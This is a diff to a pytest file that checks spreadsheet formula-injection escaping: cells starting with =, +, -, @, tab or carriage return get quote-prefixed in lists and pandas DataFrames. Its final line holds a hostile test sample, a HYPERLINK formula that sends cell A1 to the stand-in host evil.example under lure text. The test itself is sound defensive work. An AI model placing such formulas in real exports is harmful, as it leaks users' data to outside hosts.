@@ -19,6 +19,7 @@ import sys
 import time
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 import audit
@@ -155,6 +156,18 @@ def test_2_formula_cells_are_quoted_in_every_table(tmp_path):
 
     assert [spreadsheet_cell(v) for v in ("=1+1", "+A1", "-cmd", "@SUM(A1)", "\tx", "\rx", "-3.5", "+4", "a=b", 7)] \
         == ["'=1+1", "'+A1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "-3.5", "+4", "a=b", 7]
+    from audit.present._csv import formula_cells
+    from audit.safe import FORMULA_START, spreadsheet_frame
+
+    class Text(str):
+        pass
+
+    cells = ["=1+1", "", None, float("nan"), "a=b", "-3.5", "\tx", "é=", "@", Text("=x"), 7, "日本", "\rx", "+"]
+    assert formula_cells(cells, "".join(FORMULA_START)) == \
+        [i for i, v in enumerate(cells) if v.__class__ is str and v[:1] in FORMULA_START] == [0, 5, 6, 8, 12, 13]
+    frame = pd.DataFrame({"t": pd.Series(["-x", "y", None], dtype="str"), "o": ["a", "=b", 3], "n": [-1, 2, 3]})
+    safe = spreadsheet_frame(frame)
+    assert safe["t"].tolist()[:2] == ["'-x", "y"] and safe["o"].tolist() == ["a", "'=b", 3] and safe["t"].dtype == "str"
     site = tmp_path / "site"
     site.mkdir()
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click here for your results")'
